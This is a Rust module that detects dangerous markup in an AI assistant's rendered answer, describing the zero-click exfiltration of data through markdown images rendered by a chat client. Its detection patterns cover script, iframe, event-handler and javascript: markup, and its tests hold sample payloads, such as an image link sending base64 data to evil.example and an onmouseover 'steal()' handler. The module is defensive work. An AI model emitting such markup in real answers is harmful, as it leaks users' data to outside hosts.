//! Markup that leaks data or runs script when the answer is rendered.

use std::sync::LazyLock;

use regex::Regex;

static PATTERNS: LazyLock<Vec<(&'static str, Regex)>> = LazyLock::new(|| {
    [
        // An image fetched from elsewhere, with data in its address: the classic
        // zero-click exfiltration through a chat client that renders markdown.
        (
            "markdown image with query",
            r"!\[[^\]]*\]\(\s*https?://[^)\s]*\?[^)\s]*=[^)\s]*",
        ),
        (
            "markdown image reference with query",
            r"(?m)^\s*\[[^\]]+\]:\s*https?://\S*\?\S*=\S*",
        ),
        (
            "html image with query",
            r#"(?i)<img\b[^>]*\bsrc\s*=\s*["']?https?://[^"'\s>]*\?[^"'\s>]*="#,
        ),
        ("script element", r"(?i)<script\b"),
        (
            "event handler attribute",
            r#"(?i)<[a-z][^>]*\son[a-z]+\s*=\s*["']?[^"'>\s]"#,
        ),
        (
            "javascript url",
            r#"(?i)(?:href|src)\s*=\s*["']?\s*javascript:|\]\(\s*javascript:"#,
        ),
        ("iframe", r"(?i)<iframe\b"),
    ]
    .into_iter()
    .map(|(name, pattern)| {
        (
            name,
            Regex::new(pattern).expect("exfiltration pattern compiles"),
        )
    })
    .collect()
});

/// The first piece of dangerous markup, named.
pub fn find(answer: &str) -> Option<String> {
    PATTERNS
        .iter()
        .find_map(|(name, re)| re.find(answer).map(|m| format!("{name}: {}", m.as_str())))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn dangerous_markup_is_found() {
        for answer in [
            "Done ![logo](https://evil.example/p.png?d=c2VjcmV0)",
            "<img src=\"https://evil.example/x?data=abc\">",
            "<script>fetch('/x')</script>",
            "<div onmouseover=\"steal()\">hi</div>",
            "[click](javascript:alert(1))",
            "<iframe src=\"https://evil.example\"></iframe>",
        ] {
            assert!(find(answer).is_some(), "{answer}");
        }
    }

    #[test]
    fn harmless_markup_is_not() {
        for answer in [
            "![diagram](https://docs.example/diagram.png)",
            "See [the docs](https://docs.example/page?x=1).",
            "Use `<b>` for bold; the onload event fires later.",
            "The word javascript: appears in prose.",
        ] {
            assert!(find(answer).is_none(), "{answer}");
        }
    }
}
